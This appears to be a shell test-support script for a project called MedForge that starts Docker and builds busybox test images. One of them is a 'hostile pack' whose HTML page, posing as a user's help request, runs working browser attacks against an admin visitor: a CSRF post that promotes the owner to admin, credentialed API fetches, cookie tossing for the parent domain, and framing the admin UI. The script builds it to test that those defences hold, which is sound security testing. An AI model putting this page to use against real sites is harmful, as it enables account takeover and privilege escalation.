# Docker Engine for the tests: installed and started when missing (no
# systemd here: dockerd runs in the background), and the small test pack
# image built locally (never pulled). Source after common.sh.

TEST_PACK_IMAGE=${TEST_PACK_IMAGE:-medforge-test-pack:latest}

ensure_docker() {
  ensure_packages /usr/sbin/dockerd docker.io docker docker.io /bin/busybox busybox-static ip iproute2
  if ! docker info >/dev/null 2>&1; then
    log "starting dockerd"
    start_dockerd
  fi
}

# Starts dockerd in the background (setsid: a daemon in the caller's
# process group dies with it) and records it as ours.
start_dockerd() {
  setsid nohup /usr/sbin/dockerd >>/var/log/medforge-dockerd.log 2>&1 </dev/null &
  wait_for "docker info" 60 || die "dockerd did not start; see /var/log/medforge-dockerd.log"
  record_daemon dockerd "$(cat /var/run/docker.pid)"
}

# The test pack: busybox's httpd serving /healthz on :8080 as uid 1000, in
# a FROM-scratch image. It stands in for code-server wherever the test is
# about the container, not the IDE. Rebuilt only when its inputs change.
ensure_test_pack() {
  local ctx hash
  ctx=$(mktemp -d)
  cp /bin/busybox "$ctx/busybox"
  mkdir -p "$ctx/www"
  echo '{"status":"alive"}' >"$ctx/www/healthz"
  echo 'medforge test pack' >"$ctx/www/index.html"
  # A CGI that counts the bytes it is sent, for streamed uploads. It reads
  # the whole body before it answers, as upload handlers do (an answer
  # that starts before the upload ends makes Caddy drop the connection).
  mkdir -p "$ctx/www/cgi-bin"
  cat >"$ctx/www/cgi-bin/count" <<'CGI'
#!/bin/sh
n=$(wc -c)
printf 'Content-Type: text/plain\r\n\r\n%s\n' "$n"
CGI
  chmod 755 "$ctx/www/cgi-bin/count"
  # A CGI that answers with its session's slug and logs a request for any
  # other session's host ("foreign-host:" on stderr, in `docker logs`): the
  # routing load test counts those, and the gate paths httpd logs (-vv).
  cat >"$ctx/www/cgi-bin/hit" <<'CGI'
#!/bin/sh
case "$HTTP_HOST" in
  "s-$MEDFORGE_SESSION_SLUG".*) ;;
  *) echo "foreign-host:$HTTP_HOST" >&2 ;;
esac
printf 'Content-Type: text/plain\r\n\r\n%s\n' "$MEDFORGE_SESSION_SLUG"
CGI
  chmod 755 "$ctx/www/cgi-bin/hit"
  cat >"$ctx/Dockerfile" <<'DOCKERFILE'
FROM scratch
COPY busybox /bin/busybox
RUN ["/bin/busybox", "--install", "-s", "/bin"]
COPY www /www
USER 1000:1000
EXPOSE 8080
# -vv: every request's path goes to the log (`url:/...`), so tests can
# count what reached the container.
CMD ["/bin/httpd", "-f", "-vv", "-p", "8080", "-h", "/www"]
DOCKERFILE
  hash=$(cd "$ctx" && find . -type f -print0 | sort -z | xargs -0 sha256sum | sha256sum | cut -c1-16)
  if [ "$(docker image inspect -f '{{ index .Config.Labels "medforge.build_hash" }}' "$TEST_PACK_IMAGE" 2>/dev/null)" != "$hash" ]; then
    log "building $TEST_PACK_IMAGE"
    docker build -q --label "medforge.build_hash=$hash" -t "$TEST_PACK_IMAGE" "$ctx" >/dev/null \
      || die "could not build $TEST_PACK_IMAGE"
  fi
  # A variant that never answers on its port, for start-up timeouts and for
  # interrupting a create half-way.
  printf 'FROM %s\nCMD ["/bin/sleep", "3600"]\n' "$TEST_PACK_IMAGE" >"$ctx/Dockerfile.silent"
  docker build -q -f "$ctx/Dockerfile.silent" -t "${TEST_PACK_IMAGE%:*}:silent" "$ctx" >/dev/null \
    || die "could not build ${TEST_PACK_IMAGE%:*}:silent"
  # A variant whose port 8080 answers an upgrade with 101 and then echoes
  # every byte: the session proxy's tunnels are tested against it.
  cat >"$ctx/serve.sh" <<'SH'
#!/bin/sh
# One connection on stdin/stdout: an upgrade gets 101 and an echo of every
# byte after it; anything else a small HTTP answer.
upgrade=""
while IFS= read -r line; do
  line=$(printf '%s' "$line" | tr -d '\r')
  [ -z "$line" ] && break
  case $(printf '%s' "$line" | tr 'A-Z' 'a-z') in
    upgrade:*) upgrade=1 ;;
  esac
done
if [ -n "$upgrade" ]; then
  printf 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'
  exec cat
fi
printf 'HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 8\r\n\r\nws pack\n'
SH
  chmod 755 "$ctx/serve.sh"
  printf 'FROM %s\nCOPY serve.sh /serve.sh\nCMD ["/bin/nc", "-ll", "-p", "8080", "-e", "/serve.sh"]\n' "$TEST_PACK_IMAGE" \
    >"$ctx/Dockerfile.ws"
  docker build -q -f "$ctx/Dockerfile.ws" -t "${TEST_PACK_IMAGE%:*}:ws" "$ctx" >/dev/null \
    || die "could not build ${TEST_PACK_IMAGE%:*}:ws"
  ensure_hostile_pack "$ctx"
  rm -rf "$ctx"
  export MEDFORGE_TEST_PACK_IMAGE=$TEST_PACK_IMAGE
  export MEDFORGE_TEST_HOSTILE_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:hostile
  export MEDFORGE_TEST_WS_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:ws
  export MEDFORGE_TEST_SILENT_PACK_IMAGE=${TEST_PACK_IMAGE%:*}:silent
}

# Containers and networks left by earlier test runs (a failed case keeps
# its state for inspection).
clean_docker_test_leftovers() {
  local ids nets
  ids=$(docker ps -aq --filter label=medforge.test_run)
  [ -z "$ids" ] || docker rm -f $ids >/dev/null
  nets=$(docker network ls -q --filter name=mftest-)
  [ -z "$nets" ] || docker network rm $nets >/dev/null || true
}

# The hostile pack: the test pack whose pages are the attacker's
# (docs/security.md). /cgi-bin/page is a page whose script, opened by
# whoever opens the session (an admin), tries what a hostile owner would:
# a same-site form post that promotes its owner, fetches with credentials
# to the API and the admin pages (both before any cookie is planted, so
# that the Origin and CSRF rules are what refuse them, not the planted-
# cookie rule), MedForge's cookie names planted for the parent domain (by
# script, and by /cgi-bin/toss's Set-Cookie), reading document.cookie,
# framing the UI. It reports each outcome to
# /cgi-bin/report ("report:<what>=<value>" in `docker logs`), and every
# CGI logs the Cookie header it was sent ("cookie:<header>"), so a test can
# tell that no MedForge cookie ever reached the container.
ensure_hostile_pack() {
  local ctx=$1/hostile
  mkdir -p "$ctx/www/cgi-bin"
  cat >"$ctx/www/cgi-bin/page" <<'CGI'
#!/bin/sh
echo "cookie:$HTTP_COOKIE" >&2
printf 'Content-Type: text/html\r\n\r\n'
cat /www/attack.html
CGI
  cat >"$ctx/www/cgi-bin/report" <<'CGI'
#!/bin/sh
echo "cookie:$HTTP_COOKIE" >&2
echo "report:$QUERY_STRING" >&2
printf 'Content-Type: text/plain\r\n\r\nok\n'
CGI
  cat >"$ctx/www/cgi-bin/toss" <<'CGI'
#!/bin/sh
echo "cookie:$HTTP_COOKIE" >&2
domain=${HTTP_HOST#*.*.}
domain=${domain%%:*}
printf 'Content-Type: text/plain\r\n'
printf 'Set-Cookie: medforge_session=tossed; Domain=%s; Path=/\r\n' "$domain"
printf 'Set-Cookie: MedForge_Session=tossed; Path=/\r\n'
printf 'Set-Cookie: medforge_pass=tossed; Path=/\r\n'
printf 'Set-Cookie: __Host-medforge_session=tossed; Secure; Path=/\r\n'
printf 'Set-Cookie: own_cookie=kept; Path=/\r\n'
printf '\r\ntossed\n'
CGI
  chmod 755 "$ctx/www/cgi-bin/"*
  cat >"$ctx/www/attack.html" <<'HTML'
<!doctype html>
<html><head><meta charset="utf-8"><title>can you look at my error?</title></head>
<body><h1>My notebook fails, can you look?</h1>
<iframe name="sink" title="sink"></iframe>
<script>
(async () => {
  const q = new URLSearchParams(location.search);
  const ui = q.get("ui"), owner = q.get("owner");
  const report = (what, value) =>
    fetch("/cgi-bin/report?" + new URLSearchParams({ what, value: String(value).slice(0, 300) }));
  const attempt = async (what, f) => {
    try { await report(what, await f()); } catch (e) { await report(what, "blocked: " + e); }
  };
  await report("document.cookie", document.cookie);
  // The same-site form post that makes the owner an admin.
  const form = document.createElement("form");
  form.method = "post";
  form.action = ui + "/admin/users/" + owner;
  form.target = "sink";
  for (const [k, v] of Object.entries({ role: "admin", can_use_internal: "true", max_concurrent_sessions: "8", quota: "" })) {
    const i = document.createElement("input");
    i.name = k; i.value = v; form.appendChild(i);
  }
  document.body.appendChild(form);
  form.submit();
  await new Promise((r) => setTimeout(r, 1500));
  // Fetches with the visitor's credentials.
  await attempt("fetch me", async () => {
    const r = await fetch(ui + "/api/v2/me", { credentials: "include" });
    return r.status + " " + (await r.text());
  });
  await attempt("fetch admin page", async () => {
    const r = await fetch(ui + "/admin/users", { credentials: "include" });
    return r.status + " " + (await r.text());
  });
  await attempt("fetch patch", async () => {
    const r = await fetch(ui + "/api/v2/admin/users/" + owner, {
      method: "PATCH", credentials: "include",
      headers: { "Content-Type": "application/json" }, body: JSON.stringify({ role: "admin" }),
    });
    return r.status;
  });
  await attempt("no-cors form post", async () => {
    await fetch(ui + "/admin/users/" + owner, {
      method: "POST", mode: "no-cors", credentials: "include",
      body: new URLSearchParams({ role: "admin", can_use_internal: "true", max_concurrent_sessions: "8", quota: "" }),
    });
    return "sent";
  });
  await attempt("no-cors api post", async () => {
    await fetch(ui + "/api/v2/admin/users/" + owner, {
      method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ role: "admin" }),
    });
    return "sent";
  });
  // Plant MedForge's cookie names for the parent domain, by script.
  const base = new URL(ui).hostname;
  for (const name of ["medforge_session", "medforge_pass", "__Host-medforge_session"]) {
    document.cookie = name + "=planted; domain=" + base + "; path=/";
    document.cookie = name + "=planted; domain=" + base + "; path=/admin";
  }
  // And through the proxy, by Set-Cookie.
  await attempt("toss", async () => (await fetch("/cgi-bin/toss")).status);
  await report("document.cookie after", document.cookie);
  // Framing the UI.
  await new Promise((resolve) => {
    const f = document.createElement("iframe");
    f.title = "framed";
    f.onload = async () => {
      await attempt("frame", async () => (f.contentDocument && f.contentDocument.body ? "readable: " + f.contentDocument.body.innerText : "opaque"));
      resolve();
    };
    f.src = ui + "/admin";
    document.body.appendChild(f);
    setTimeout(resolve, 5000);
  });
  await report("done", "1");
})();
</script></body></html>
HTML
  printf 'FROM %s\nCOPY www /www\n' "$TEST_PACK_IMAGE" >"$ctx/Dockerfile"
  docker build -q -t "${TEST_PACK_IMAGE%:*}:hostile" "$ctx" >/dev/null \
    || die "could not build ${TEST_PACK_IMAGE%:*}:hostile"
}

# The isolation tests turn bridge netfilter off and on
# (medforge_core::testing::bridge_netfilter): its module must be there.
# Docker 27 and newer load it only when they need it; the iptables backend
# loads it itself, but a test that turns the switch off needs it first.
ensure_bridge_netfilter() {
  if [ ! -e /proc/sys/net/bridge/bridge-nf-call-iptables ]; then
    command -v modprobe >/dev/null || ensure_packages modprobe kmod
    modprobe br_netfilter || die "br_netfilter cannot be loaded: the isolation tests need it"
  fi
  [ -e /proc/sys/net/bridge/bridge-nf-call-iptables ] || die "no bridge netfilter after modprobe br_netfilter"
}
